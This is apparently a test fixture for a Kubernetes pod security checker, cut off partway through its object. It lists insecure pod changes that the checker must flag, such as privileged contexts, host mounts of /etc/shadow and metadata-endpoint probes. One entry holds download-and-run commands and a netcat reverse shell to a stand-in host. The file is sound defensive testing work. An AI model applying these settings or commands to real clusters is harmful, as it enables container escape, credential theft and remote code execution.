import { CONTAINER_LISTS, ContainerList, PROBES } from '../../src/formats/manifest/pod';
import { ContextParts } from '../../src/policy/context/context';
import { PlatformName } from '../../src/policy/settings/target';
import { APP, directoryOf, lockOf, lockWith } from '../knowledge/image-lock/support';
import { accountsNamed } from '../policy/facts/known';

/*
 * For each control on pods the changes that it must report in any pod: one for each field that it restricts. Those of
 * containers are made to a good container in any pod; fields of the pod that override it are set too.
 */

/** @param main a good container of the pod, which mounts an emptyDir of its own at /tmp */
export type Change = (main: any, spec: any, metadata: any) => void;

const LOCK = { lock: lockOf([`app:1@sha256:${'f'.repeat(64)}`]) };

/** The image of the lock file has no shell, and one user: its files are for nobody else. */
const SAID = {
  choices: {
    imageLock: {
      lock: lockWith({
        user: 'app',
        uid: 1000,
        gid: 1000,
        home: '/home/app',
        shells: [],
        lacks: ['/none'],
        program: { path: '/app', uid: 1000, gid: 1000, mode: 0o500 },
        directories: [directoryOf('/data', ['volume'], 'files'), directoryOf('/home/app', ['home', 'user'], 'files')],
      }),
    },
  },
};

export interface UnsafeChange {
  readonly makeUnsafe: Change;
  /** What the pod could have of it already is taken away, and what the change needs is set. */
  readonly makeSafe: Change;
  /** The path of the container. */
  readonly lists: readonly ContainerList[];
  /** At which the fields count; the newest where absent. */
  readonly version?: number;
  readonly context?: ContextParts;
}

type Options = Partial<Omit<UnsafeChange, 'makeUnsafe'>>;

/** The pod itself, and not its containers. */
const POD: readonly ContainerList[] = ['containers'];
/** Where resources are counted, paths written and programs started for good. */
const LASTING: readonly ContainerList[] = ['initContainers', 'containers'];

const all = (...changes: readonly Change[]): Change => (...pod) => changes.forEach((each) => each(...pod));
const asObject = (value: any) => typeof value === 'object' && value !== null && !Array.isArray(value) ? value : {};
const nothing: Change = () => {};

const setField = (fields: object): Change => (main) => Object.assign(main, fields);
const setContext = (fields: object): Change => (main) => Object.assign(main.securityContext, fields);
const setInPod = (fields: object): Change => (_, spec) => Object.assign(spec, fields);
const setPodContext = (fields: object): Change => (_, spec) => {
  spec.securityContext = { ...asObject(spec.securityContext), ...fields };
};
const addVolume = (source: object): Change => (_, spec) => void spec.volumes.push({ name: 'unsafe', ...source });
const addMount = (source: object, mount: object): Change => (main, spec) => {
  spec.volumes.push({ name: 'unsafe', ...source });
  main.volumeMounts.push({ name: 'unsafe', mountPath: '/unsafe', ...mount });
};
const annotate = (key: string, value?: string): Change => (_, __, metadata) => {
  metadata.annotations = { ...asObject(metadata.annotations), [key]: value };
};
const without = (fields: object) => Object.fromEntries(Object.keys(fields).map((key) => [key, undefined]));
const inNodesNetwork = (value: boolean) => setInPod({ hostNetwork: value });
const hasUserNamespace = (value: boolean) => setInPod({ hostUsers: !value });

function change(makeUnsafe: Change, { makeSafe = nothing, lists = CONTAINER_LISTS, ...options }: Options = {}): UnsafeChange {
  return { makeUnsafe, makeSafe, lists, ...options };
}

const field = (fields: object, options?: Options) => change(setField(fields), options);
const context = (fields: object, options?: Options) => change(setContext(fields), options);
const volume = (source: object, options?: Options) => change(addVolume(source), { lists: POD, ...options });
const mounted = (source: object, mount: object, options?: Options) => change(addMount(source, mount), options);
const variable = (name: string, value: string, options?: Options) => field({ env: [{ name, value }] }, options);
const podField = (fields: object, { makeSafe = nothing, ...options }: Options = {}) =>
  change(setInPod(fields), { makeSafe: all(setInPod(without(fields)), makeSafe), lists: POD, ...options });
const podContext = (fields: object, { makeSafe = nothing, ...options }: Options = {}) =>
  change(setPodContext(fields), { makeSafe: all(setPodContext(without(fields)), makeSafe), lists: POD, ...options });
const annotation = (key: string, value: string, { makeSafe = nothing, ...options }: Options = {}) =>
  change(annotate(key, value), { makeSafe: all(annotate(key), makeSafe), lists: POD, ...options });
/** The same field of the pod's security context and of the containers'. */
const bothContexts = (fields: object, options?: Options) => [podContext(fields, options), context(fields, options)];

const withoutTokens: Change = (_, spec) => {
  spec.volumes = spec.volumes.filter(({ projected }: any) => !projected);
};

const inNodesNamespace = { makeSafe: hasUserNamespace(false) };
const inOwnNamespace = { makeSafe: hasUserNamespace(true) };
const on = (platform: PlatformName, options: Options = {}) => ({ ...options, context: { target: { platform } } });
const NO_IDS = { runAsUser: undefined, runAsGroup: undefined, fsGroup: undefined };
const TOKEN = { serviceAccountToken: { audience: 'vault', expirationSeconds: 600, path: 'token' } };
const CLAIM = { persistentVolumeClaim: { claimName: 'claim' } };
const APP_ARMOR = 'container.apparmor.security.beta.kubernetes.io/probe';

function withoutAmount(kind: 'requests' | 'limits', resource: string): UnsafeChange {
  return change((main) => delete main.resources[kind][resource], { lists: LASTING });
}

function withAmount(kind: 'requests' | 'limits', resource: string, amount: string): UnsafeChange {
  return change((main) => main.resources[kind][resource] = amount, { lists: LASTING });
}

const lowIds = (name: string) => [
  context({ [name]: 999 }, inNodesNamespace),
  change(all(setPodContext({ [name]: 999 }), setContext({ [name]: undefined })), inNodesNamespace),
];

const amountsOf = (resource: string) => (['requests', 'limits'] as const)
  .flatMap((kind) => [withoutAmount(kind, resource), withAmount(kind, resource, '0')]);

/** All places of a container from which the kubelet can be sent to a host. */
const HOSTS = ['httpGet', 'tcpSocket'].map((action) => ({ [action]: { host: '169.254.169.254', port: 80 } })).flatMap((handler) => [
  { livenessProbe: handler }, { readinessProbe: handler }, { startupProbe: handler },
  { lifecycle: { postStart: handler } }, { lifecycle: { preStop: handler } },
]);

export const UNSAFE_CHANGES: { readonly [control: string]: readonly UnsafeChange[] } = {
  'app-armor-profile': [
    ...bothContexts({ appArmorProfile: { type: 'Unconfined' } }),
    annotation(APP_ARMOR, 'unconfined'),
  ],
  'capabilities-baseline': [{ drop: ['ALL'], add: ['SYS_ADMIN'] }, { add: ['CHOWN', 'NET_RAW'] }].map((capabilities) => context({ capabilities })),
  'host-namespaces': [podField({ hostIPC: true }), podField({ hostPID: true }), podField({ hostNetwork: true })],
  'host-path-volumes': [volume({ hostPath: { path: '/srv' } })],
  'host-ports': [
    field({ ports: [{ containerPort: 8080, hostPort: 8080 }] }),
    change(inNodesNetwork(true), { makeSafe: all(inNodesNetwork(false), setField({ ports: [{ containerPort: 8080 }] })) }),
  ],
  'host-probes-and-lifecycle': HOSTS.map((fields) => field(fields)),
  'privileged': [context({ privileged: true })],
  'proc-mount': [
    context({ procMount: 'Unmasked' }, inNodesNamespace),
    context({ procMount: 'Unmasked' }, { ...inOwnNamespace, version: 34 }),
  ],
  'seccomp-profile-baseline': [
    ...bothContexts({ seccompProfile: { type: 'Unconfined' } }),
    annotation('seccomp.security.alpha.kubernetes.io/pod', 'unconfined', { version: 18 }),
    annotation('container.seccomp.security.alpha.kubernetes.io/probe', 'unconfined', { version: 18 }),
  ],
  'selinux-options': ['type', 'user', 'role'].flatMap((name) => bothContexts({ seLinuxOptions: { [name]: 'spc_t' } })),
  'sysctls': [podContext({ sysctls: [{ name: 'kernel.msgmax', value: '1' }] })],
  'windows-host-process': bothContexts({ windowsOptions: { hostProcess: true } }),
  'field-types': [
    context({ privileged: 'true' }), field({ command: 'x' }),
    podField({ hostPID: 'true' }), podContext({ runAsUser: -1 }), annotation('a', 7 as any),
  ],

  'allow-privilege-escalation': [context({ allowPrivilegeEscalation: true }), context({ allowPrivilegeEscalation: undefined })],
  'capabilities-restricted': [
    context({ capabilities: { drop: ['NET_RAW'] } }), context({ capabilities: undefined }), context({ capabilities: { drop: ['ALL'], add: ['CHOWN'] } }),
  ],
  'proc-mount-restricted': [true, false].map((isOwn) => context({ procMount: 'Unmasked' }, { makeSafe: hasUserNamespace(isOwn) })),
  'restricted-volumes': [volume({ nfs: { server: 'x', path: '/' } }), volume({ hostPath: { path: '/srv' } })],
  'run-as-non-root': [
    context({ runAsNonRoot: false }, inNodesNamespace),
    context({ runAsNonRoot: undefined }, { makeSafe: all(hasUserNamespace(false), setPodContext({ runAsNonRoot: undefined })) }),
    podContext({ runAsNonRoot: false }, inNodesNamespace),
    context({ runAsNonRoot: false }, { ...inOwnNamespace, version: 34 }),
  ],
  'run-as-user': bothContexts({ runAsUser: 0 }, inNodesNamespace),
  'seccomp-profile-restricted': [
    ...bothContexts({ seccompProfile: { type: 'Unconfined' } }),
    context({ seccompProfile: undefined }, { makeSafe: setPodContext({ seccompProfile: undefined }) }),
  ],

  'read-only-root-filesystem': [context({ readOnlyRootFilesystem: false }), context({ readOnlyRootFilesystem: undefined })],
  'termination-message-path': ['/etc/passwd', '/tmp/../usr/bin/app', 'app'].map((terminationMessagePath) => field({ terminationMessagePath })),
  'user-id': [context({ runAsUser: undefined }, { makeSafe: setPodContext({ runAsUser: undefined }) })],
  'high-user-id': lowIds('runAsUser'),
  'group-id': [
    context({ runAsGroup: 0 }, inNodesNamespace),
    podContext({ runAsGroup: 0 }, inNodesNamespace),
    context({ runAsGroup: undefined }, { makeSafe: setPodContext({ runAsGroup: undefined }) }),
  ],
  'high-group-id': lowIds('runAsGroup'),
  'fs-group': [podContext({ fsGroup: 0 }, inNodesNamespace), podContext({ fsGroup: undefined }, { makeSafe: all(setPodContext({ fsGroup: 65532 }), addVolume(CLAIM)) })],
  'fs-group-change-policy': [
    podContext({ fsGroupChangePolicy: undefined }, { makeSafe: all(setPodContext({ fsGroup: 65532, fsGroupChangePolicy: 'Always' }), addVolume(CLAIM)) }),
  ],
  'supplemental-groups': [podContext({ supplementalGroups: [2000, 0] }), podContext({ supplementalGroups: [6] })],
  'shared-process-namespace': ([['containers', { name: 'twin' }], ['initContainers', { name: 'sidecar', restartPolicy: 'Always' }]] as const)
    .map(([list, other]) => podField({ shareProcessNamespace: true }, {
      makeSafe: (main, spec) => spec[list].push({ ...main, ...other }),
    })),
  'service-account-token': [true, undefined].map((automountServiceAccountToken) =>
    podField({ automountServiceAccountToken }, { makeSafe: setInPod({ automountServiceAccountToken: false }) })),
  'token-audience': [
    volume({ projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }),
    volume({ projected: { sources: [TOKEN, { serviceAccountToken: { audience: '', path: 'token' } }] } }),
  ],
  'token-lifetime': [volume({ projected: { sources: [{ serviceAccountToken: { ...TOKEN.serviceAccountToken, expirationSeconds: 604800 } }] } })],
  'service-account-field': ['new', undefined].map((serviceAccountName) => podField({ serviceAccount: 'old', serviceAccountName })),
  'service-account-exists': [podField({ serviceAccountName: 'missing' }, { context: { facts: { serviceAccounts: accountsNamed('there') } } })],
  'service-links': [true, undefined].map((enableServiceLinks) =>
    podField({ enableServiceLinks }, { makeSafe: setInPod({ enableServiceLinks: false }) })),
  'writable-paths': [
    field({ volumeMounts: [] }, { lists: LASTING }),
    change((main) => main.volumeMounts[0].readOnly = true, { lists: LASTING }),
    change((main) => main.volumeMounts[0].mountPath = '/temp', { lists: LASTING }),
  ],
  // All containers of a pod are in one finding.
  'undeclared-writable-paths': [field({ volumeMounts: [] }), change((main) => main.volumeMounts[0].readOnly = true)].map((unsafe) => ({
    ...unsafe,
    makeSafe: (main, spec) => LASTING.forEach((list) => { spec[list] = spec[list].filter((other: unknown) => other === main); }),
    lists: LASTING,
    context: { notes: { isNotHardenedKind: true, hasLibraryDefaults: true } },
  })),
  'hidden-claim-data': [change(all(addMount(CLAIM, { mountPath: '/data' }), (main, spec) => {
    spec.volumes.push({ name: 'hiding', emptyDir: { sizeLimit: '1Gi' } });
    main.volumeMounts.push({ name: 'hiding', mountPath: '/data/cache' });
  }), { lists: LASTING, context: { choices: { writablePaths: [{ kind: 'emptyDir', path: '/data/cache', sizeLimit: 1, inMemory: false }] } } })],
  'runtime-environment': [
    ...['ASPNETCORE_TEMP', 'DOTNET_BUNDLE_EXTRACT_BASE_DIR', 'PGDATA', 'PYTHONPYCACHEPREFIX', 'TMPDIR', 'XDG_CACHE_HOME', 'npm_config_cache']
      .map((name) => variable(name, '/nowhere', { lists: LASTING })),
    ...['JAVA_TOOL_OPTIONS', 'JDK_JAVA_OPTIONS'].map((name) => variable(name, '-Djava.io.tmpdir=/nowhere', { lists: LASTING })),
  ],
  'empty-dir-size-limit': [
    { emptyDir: {} }, { emptyDir: { sizeLimit: '0' } }, { emptyDir: { medium: 'Memory' } }, {},
  ].map((source) => volume(source)),
  'cpu-resources': amountsOf('cpu'),
  'memory-resources': amountsOf('memory'),
  'ephemeral-storage': amountsOf('ephemeral-storage'),
  'image-tag': ['app:latest', 'app', undefined].map((image) => field({ image })),
  'image-digest': ['app:1.2.3', 'app@sha256:cafe'].map((image) => field({ image })),
  'image-lock': [
    ...[`app:1@sha256:${'e'.repeat(64)}`, `other:1@sha256:${'f'.repeat(64)}`].map((image) => field({ image }, { context: { choices: { imageLock: LOCK } } })),
  ],
  'image-registry': ['nginx:1.29', 'registry.example.com:5000/shop/app:1', 'registry.example.community/app:1', 'docker.io/acme/app']
    .map((image) => field({ image }, { context: { choices: { allowedRegistries: ['registry.example.com', 'docker.io/library/postgres'] } } })),
  'image-pull-policy': ['Never', 'IfNotPresent', undefined].map((imagePullPolicy) => field({ image: 'app:1.2.3', imagePullPolicy })),
  'image-volumes': [volume({ image: { reference: 'app:1.2.3' } }), volume({ image: {} })],
  'disabled-security': [
    variable('NODE_TLS_REJECT_UNAUTHORIZED', '0'), variable('NVIDIA_VISIBLE_DEVICES', 'all'), variable('MYSQL_ALLOW_EMPTY_PASSWORD', 'yes'), variable('DOCKER_HOST', 'tcp://localhost:2375'),
    field({ args: ['dashboard', '--enable-skip-login'] }), field({ command: ['kubelet', '--anonymous-auth=true'] }),
    annotation('traffic.sidecar.istio.io/excludeOutboundPorts', '443'),
  ],
  'command-secrets': [
    field({ command: ['app', '--db-password=hunter22'] }), field({ args: ['--token', 'hunter22'] }), field({ args: [`ghp_${'aB3'.repeat(12)}`] }),
    field({ livenessProbe: { exec: { command: ['sh', '-c', 'PGPASSWORD=hunter22 psql'] } } }),
    field({ readinessProbe: { httpGet: { path: '/health', port: 80, httpHeaders: [{ name: 'X-Api-Key', value: 'hunter22' }] } } }),
    field({ lifecycle: { preStop: { exec: { command: ['stop', '--api-key=hunter22'] } } } }),
  ],
  'literal-secrets': [variable('DB_PASSWORD', 'hunter22'), variable('A', `ghp_${'aB3'.repeat(12)}`)],
  'secrets-from-env': [
    field({ envFrom: [{ secretRef: { name: 'x' } }] }), field({ env: [{ name: 'A', valueFrom: { secretKeyRef: { name: 'x', key: 'y' } } }] }),
  ],
  'duplicate-env': [field({ env: [{ name: 'A', value: 'a' }, { name: 'B', value: 'b' }, { name: 'A', value: 'c' }] })],
  'loader-variables': [
    variable('LD_PRELOAD', '/tmp/x.so'), variable('LD_AUDIT', '/tmp/x.so'), variable('LD_LIBRARY_PATH', '/lib:/tmp'),
    variable('BASH_ENV', '/tmp/x'), variable('NODE_OPTIONS', '--require /tmp/x.js'),
  ],
  'sudo': [field({ command: ['sudo', 'app'] }), field({ args: ['/usr/bin/sudo', 'app'] }), field({ command: ['sh', '-c'], args: ['exec sudo app'] })],
  'runtime-socket': ['/run/containerd/containerd.sock', '/var/run', '/srv/docker.sock'].map((path) => volume({ hostPath: { path } })),
  'sensitive-host-paths': ['/etc', '/', '/etc/shadow'].map((path) => volume({ hostPath: { path } })),
  'writable-host-path': [mounted({ hostPath: { path: '/srv' } }, {})],
  'mount-propagation': [change((main) => main.volumeMounts[0].mountPropagation = 'Bidirectional')],
  'writable-system-directories': ['/usr/bin', '/lib/x', '/usr/local', '//bin/'].map((mountPath) => mounted({ emptyDir: {} }, { mountPath })),
  'reserved-mount-paths': ['/', '/proc', '/sys/fs/cgroup', '//dev/', '/tmp/../proc/sys'].map((mountPath) => mounted({ emptyDir: {} }, { mountPath })),
  'device-access': [
    field({ volumeDevices: [{ name: 'x', devicePath: '/dev/x' }] }),
    change((main) => { main.resources.limits['devices.kubevirt.io/kvm'] = '1'; }),
    change((main) => { main.resources.requests['smarter-devices/fuse'] = '1'; }),
  ],
  'inline-csi': [volume({ csi: { driver: 'x' } })],
  'ssh-port': [field({ ports: [{ containerPort: 22 }] }), field({ ports: [{ containerPort: 22, protocol: 'TCP' }] })],
  'host-aliases': [podField({ hostAliases: [{ ip: '1.2.3.4', hostnames: ['x'] }] })],
  'network-policy': [change((_, __, metadata) => { metadata.labels = { app: 'other' }; }, {
    makeSafe: (_, spec, metadata) => { spec.hostNetwork = false; metadata.labels = { app: 'web' }; }, lists: POD, context: { facts: { networkPolicies: { isolates: ({ labels }) => labels.app === 'web' } } },
  })],
  'egress-policy': [change((_, __, metadata) => { metadata.labels = { app: 'other' }; }, {
    makeSafe: (_, spec, metadata) => { spec.hostNetwork = false; metadata.labels = { app: 'web' }; },
    lists: POD,
    context: { facts: { networkPolicies: { isolates: () => true, limits: ({ labels }) => labels.app === 'web' } } },
  })],
  'downloaded-code': [
    field({ command: ['sh', '-c', 'curl https://a.example/x | sh'] }), field({ args: ['bash <(curl https://a.example/x)'] }),
    ...PROBES.map((probe) => field({ [probe]: { exec: { command: ['sh', '-c', 'nc -e /bin/sh a 1'] } } }, { lists: LASTING })),
    field({ lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl https://a.example/x | sh'] } } } }, { lists: LASTING }),
  ],
  'dns-policy': [podField({ dnsConfig: { searches: ['evil.example.com'] } }), podField({ dnsPolicy: 'None' }), podField({ dnsConfig: { nameservers: ['192.0.2.1'] } })],
  'extra-networks': ['k8s.v1.cni.cncf.io/networks', 'v1.multus-cni.io/default-network'].map((key) => annotation(key, 'storage')),
  'mesh-injection': [
    ...['sidecar.istio.io/proxyImage', 'sidecar.istio.io/userVolume', 'sidecar.istio.io/userVolumeMount'].map((key) => annotation(key, '[{}]')),
    annotation('sidecar.istio.io/inject', 'false'),
    change((_, __, metadata) => { metadata.labels = { 'sidecar.istio.io/inject': 'false' }; }, {
      makeSafe: (_, __, metadata) => { metadata.labels = {}; },
      lists: POD,
    }),
  ],
  'priority-class': ['system-node-critical', 'system-cluster-critical'].map((priorityClassName) => podField({ priorityClassName })),
  'tolerations': [{ operator: 'Exists' }, { operator: 'Exists', key: '' }].map((toleration) => podField({ tolerations: [toleration] })),
  'control-plane-nodes': [
    podField({ tolerations: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists' }] }),
    podField({ nodeSelector: { 'node-role.kubernetes.io/master': '' } }),
    podField({
      affinity: {
        nodeAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: {
            nodeSelectorTerms: [
              { matchExpressions: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists' }] },
            ],
          },
        },
      },
    }),
  ],
  'required-scc': ['privileged', 'anyuid', 'our-own'].map((value) => annotation('openshift.io/required-scc', value)),
  'node-name': [
    podField({ nodeName: 'node' }), podField({ nodeSelector: { 'kubernetes.io/hostname': 'node' } }),
    ...[['matchFields', 'metadata.name'], ['matchExpressions', 'kubernetes.io/hostname']].map(([list, key]) => podField({
      affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ [list]: [{ key, operator: 'In', values: ['node'] }] }] } } },
    })),
  ],
  'working-dir': [field({ workingDir: '/proc/self/fd/8' })],
  'volume-modes': [volume({ secret: { secretName: 'x', defaultMode: 0o666 } }), volume({ projected: { sources: [{ secret: { name: 'x', items: [{ key: 'a', path: 'a', mode: 0o777 }] } }] } })],
  'runtime-class': [podField({ runtimeClassName: 'untrusted' })],
  'runtime-annotations': [
    'io.kubernetes.cri-o.userns-mode', 'io.katacontainers.config.hypervisor.path', 'devices.nri.io/pod', 'x.cdi.k8s.io', 'cdi.k8s.io/x',
  ].map((key) => annotation(key, 'auto')),
  'ephemeral-containers': [podField({ ephemeralContainers: [{ name: 'debug', image: 'app:1' }] })],
  'windows': [podField({ os: { name: 'windows' } }), podField({ nodeSelector: { 'kubernetes.io/os': 'windows' } })],

  'unique-container-names': CONTAINER_LISTS.map((list) => change((main, spec) => spec[list] = [...spec[list], { ...main }])),
  'volume-names': ['My.Volume', undefined, '-a', 'a'.repeat(64), 'tmp-probe'].map((name) => volume({ name, emptyDir: { sizeLimit: '1Gi' } })),
  'volume-mounts-resolve': [
    field({ volumeMounts: [{ name: 'nowhere', mountPath: '/tmp' }] }), field({ volumeDevices: [{ name: 'nowhere', devicePath: '/dev/x' }] }),
  ],
  'unique-mount-paths': ['/tmp', '//tmp/'].map((mountPath) => mounted({ emptyDir: {} }, { mountPath })),
  'mount-under-read-only': [change((main, spec) => {
    spec.volumes.push({ name: 'outer', ...CLAIM });
    main.volumeMounts.push({ name: 'outer', mountPath: '/outer', readOnly: true }, { name: main.volumeMounts[0].name, mountPath: '/outer/inner' });
  })],
  'empty-volume-command': [
    mounted({ emptyDir: {} }, { mountPath: '/app' }, { makeSafe: setField({ command: ['/app/run'] }), lists: LASTING }),
    mounted({ emptyDir: {} }, { mountPath: '/app' }, { makeSafe: setField({ command: ['./run'], workingDir: '/app' }), lists: LASTING }),
  ],
  'empty-volume-working-dir': [mounted({ emptyDir: {} }, { mountPath: '/app' }, { makeSafe: setField({ workingDir: '/app/lib' }), lists: LASTING })],
  'data-directory': [
    mounted({ emptyDir: {} }, { mountPath: '/data' }, {
      makeSafe: all(setPodContext({ fsGroup: 65532 }), setField({ env: [{ name: 'PGDATA', value: '/data' }] })),
      lists: LASTING,
    }),
    change(setPodContext({ fsGroupChangePolicy: 'Always' }), {
      makeSafe: all(
        setPodContext({ fsGroup: 65532, fsGroupChangePolicy: 'OnRootMismatch' }), addMount(CLAIM, { mountPath: '/data' }),
        setField({ env: [{ name: 'PGDATA', value: '/data/pg' }] })),
      lists: LASTING,
    }),
  ],
  'non-root-uid-zero': [
    context({ runAsUser: 0 }), context({ runAsNonRoot: undefined, runAsUser: 0 }, { makeSafe: setPodContext({ runAsNonRoot: true }) }),
    change(setPodContext({ runAsUser: 0 }), { makeSafe: all(setPodContext({ runAsUser: 65532 }), setContext({ runAsUser: undefined })) }),
  ],
  'group-without-user': [
    context({ runAsUser: undefined }, { makeSafe: setPodContext({ runAsUser: undefined }) }),
    change(setPodContext({ runAsUser: undefined }), {
      makeSafe: all(setPodContext({ runAsUser: 65532, runAsGroup: 1000 }), setContext({ runAsUser: undefined, runAsGroup: undefined })),
    }),
  ],
  'capability-names': [
    { drop: ['all'] }, { drop: ['ALL', 'CAP_CHOWN'] }, { drop: ['ALL'], add: ['net_admin'] }, { add: ['NONE'] },
  ].map((capabilities) => context({ capabilities })),
  'inert-net-bind-service': ['NET_BIND_SERVICE', 'cap_net_bind_service'].map((name) => context({ capabilities: { drop: ['ALL'], add: [name] } })),
  'image-user': ['memcached:1.6', 'redis:8'].map((image) =>
    change(
      all(setField({ image }), ...[setPodContext, setContext].map((set) => set({ runAsUser: undefined, runAsNonRoot: true }))),
      { lists: LASTING },
    )),
  'image-paths': [
    change(all(setField({ image: 'nginx:1.29', command: undefined, volumeMounts: [] }), setContext({ readOnlyRootFilesystem: true })), { lists: LASTING }),
  ],
  'image-capabilities': ['coredns/coredns:1.12.0', 'dovecot/dovecot:2.4.1'].map((image) => field({ image, command: undefined }, { lists: LASTING })),
  'image-command': [['/none'], ['sh', '-c', 'x']].map((command) => field({ image: APP, command }, { lists: LASTING, context: SAID })),
  'image-access': [
    change(
      all(setField({ image: APP, command: undefined }), setContext({ runAsUser: 65532, runAsGroup: 65532 })),
      { lists: LASTING, context: SAID },
    ),
  ],
  'image-directories': [
    change(
      all(setField({ image: APP, command: undefined, volumeMounts: [] }), setContext({ readOnlyRootFilesystem: true })),
      { lists: LASTING, context: SAID },
    ),
  ],
  'image-home': [
    change(
      all(
        setField({ image: APP, command: undefined, volumeMounts: [], env: [] }),
        setContext({ readOnlyRootFilesystem: true, runAsUser: 1000 }),
      ),
      { lists: LASTING, context: SAID },
    ),
  ],
  'image-settings': [
    field({ image: 'sebp/lighttpd:1.4', command: undefined, args: undefined, volumeMounts: [] }, { lists: LASTING }),
  ],
  'image-user-flags': [
    field({ image: 'internetsystemsconsortium/bind9:9.20', command: undefined }, { lists: LASTING }),
    field({ image: 'varnish:7.7', args: ['-j', 'unix'] }, { lists: LASTING }),
  ],
  'image-root': [
    field({ image: 'gitlab/gitlab-ce:18.5.1-ce.0', command: undefined }, { makeSafe: setContext({ runAsUser: 65532 }), lists: LASTING }),
  ],
  'data-claim': [
    field({ image: 'mongo:8.0', command: undefined, volumeMounts: [] }, { lists: POD }),
  ],
  'host-path-access': [
    mounted({ hostPath: { path: '/var/log' } }, { readOnly: true }, {
      makeSafe: all(setContext({ runAsUser: 65532, runAsGroup: 65532 }), setPodContext({ fsGroup: 65532, supplementalGroups: undefined })),
      lists: LASTING,
    }),
  ],
  'probe-ports': PROBES.map((probe) => field({ ports: [], [probe]: { httpGet: { port: 'http' } } })),
  'slow-start': [
    { startupProbe: { failureThreshold: 3 } }, { livenessProbe: { periodSeconds: 5 }, startupProbe: undefined },
  ].map((probes) => field({ image: 'quay.io/keycloak/keycloak:26.4', ...probes }, { lists: LASTING })),
  'app-armor-nodes': bothContexts({ appArmorProfile: { type: 'RuntimeDefault' } }, {
    makeSafe: (_, spec, metadata) => {
      const owners = [spec, ...CONTAINER_LISTS.flatMap((list) => spec[list])];
      owners.forEach((owner) => delete asObject(owner.securityContext).appArmorProfile);
      Object.assign(spec, { nodeName: undefined, nodeSelector: undefined, affinity: undefined });
      metadata.annotations = undefined;
    },
  }),
  'low-ports': [field({ ports: [{ containerPort: 8080 }, { containerPort: 80 }] }, {
    makeSafe: all(inNodesNetwork(false), setPodContext({ sysctls: [] })),
  })],
  'memory-scratch-limit': [mounted({ emptyDir: { medium: 'Memory', sizeLimit: '1Ti' } }, {}), mounted({ emptyDir: { medium: 'Memory' } }, {})],
  'requests-within-limits': [
    withAmount('requests', 'cpu', '2'), withAmount('limits', 'memory', '1Mi'), withAmount('limits', 'cpu', 'much'), withAmount('requests', 'memory', '-1'),
    podField({ resources: { requests: { cpu: '2' }, limits: { cpu: '1' } } }), volume({ emptyDir: { sizeLimit: 'x' } }),
  ],
  'user-namespace': [podField({ hostUsers: false }, { version: 32 })],
  'user-namespace-fields': [
    ...['hostIPC', 'hostPID', 'hostNetwork'].map((name) => podField({ [name]: true }, inOwnNamespace)),
    field({ volumeDevices: [{ name: 'x', devicePath: '/dev/x' }] }, inOwnNamespace),
  ],
  'user-namespace-mapping': [
    ...['runAsUser', 'runAsGroup'].flatMap((name) => bothContexts({ [name]: 2_000_000_000 }, inOwnNamespace)),
    ...[{ fsGroup: 2_000_000_000 }, { supplementalGroups: [1, 2_000_000_000] }].map((fields) => podContext(fields, inOwnNamespace)),
    volume({ nfs: { server: 'x', path: '/' } }, inOwnNamespace),
  ],
  'token-readable': [
    mounted({ projected: { defaultMode: 0o400, sources: [TOKEN] } }, {}, {
      lists: LASTING,
      makeSafe: all(
        setPodContext({ fsGroup: undefined, runAsUser: undefined }), setContext({ runAsUser: undefined, runAsNonRoot: true }),
        withoutTokens,
      ),
    }),
  ],
  'vault-agent-token': ['true', '1'].map((value) => annotation('vault.hashicorp.com/agent-inject', value, {
    makeSafe: all(withoutTokens, (main, spec) => {
      spec.automountServiceAccountToken = false;
      spec.containers = [main]; // Nothing else in the pod may look as if it had the token.
    }),
  })),
  'proc-mount-user-namespace': [context({ procMount: 'Unmasked' }, inNodesNamespace)],
  'fs-group-volumes': [
    { nfs: {} }, { cephfs: {} }, { glusterfs: {} }, { quobyte: {} },
    { ephemeral: { volumeClaimTemplate: { spec: { accessModes: ['ReadWriteMany'] } } } },
  ].map((source) => mounted(source, {}, { makeSafe: setPodContext({ fsGroup: 65532 }) })),
  'newer-than-target': [
    ...bothContexts({ appArmorProfile: { type: 'RuntimeDefault' } }, { version: 29 }),
    podContext({ supplementalGroupsPolicy: 'Strict' }, { version: 32 }),
    volume({ image: { reference: 'app:1' } }, { version: 34 }),
    podField({ hostnameOverride: 'a' }, { version: 34 }),
    field({ lifecycle: { preStop: { sleep: { seconds: 1 } } } }, { version: 29 }),
    change((main) => main.volumeMounts[0].recursiveReadOnly = 'Enabled', { version: 30 }),
    field({ restartPolicyRules: [{}] }, { version: 34 }),
    field({ lifecycle: { stopSignal: 'SIGTERM' } }),
  ],

  'platform-assigned-ids': [context({ runAsUser: undefined }, { makeSafe: setPodContext(NO_IDS), context: { choices: { identity: {} } } })],
  'openshift-ids': [
    ...bothContexts({ runAsUser: 1000 }, on('openshift', { makeSafe: setContext(NO_IDS) })),
    ...bothContexts({ runAsGroup: 1000 }, on('openshift', { makeSafe: setContext(NO_IDS) })),
    podContext({ fsGroup: 1000 }, on('openshift')),
    ...bothContexts({ runAsUser: 999 }, on('openshift-v3', { makeSafe: setContext(NO_IDS) })),
    podContext({ fsGroup: 65535 }, on('openshift-v3')),
    podContext({ supplementalGroups: [1000, 0] }, on('openshift-v3')),
  ],
  'openshift-user-namespace': [podField({ hostUsers: false }, on('openshift')), podField({ hostUsers: true }, on('openshift-v3', inOwnNamespace))],
  'openshift-profiles': (['openshift', 'openshift-v3'] as const).flatMap((platform) => [
    ...bothContexts({ seccompProfile: { type: 'Localhost' } }, on(platform)),
    ...bothContexts({ seLinuxOptions: { level: 's0' } }, on(platform)),
    ...bothContexts({ appArmorProfile: { type: 'RuntimeDefault' } }, on(platform)),
    annotation(APP_ARMOR, 'runtime/default', on(platform)),
  ]),
  'autopilot-resources': ['cpu', 'memory', 'ephemeral-storage'].map((resource) => change(
    (main) => main.resources.limits[resource] = '5', on('gke-autopilot', { makeSafe: (main) => main.resources.limits = { ...main.resources.requests } }))),
  'autopilot-ephemeral-storage': [change((main) => main.resources.requests['ephemeral-storage'] = '11Gi', on('gke-autopilot', { lists: LASTING }))],
  'autopilot-host-paths': [
    volume({ hostPath: { path: '/srv' } }, on('gke-autopilot')), mounted({ hostPath: { path: '/var/log' } }, {}, on('gke-autopilot')),
  ],
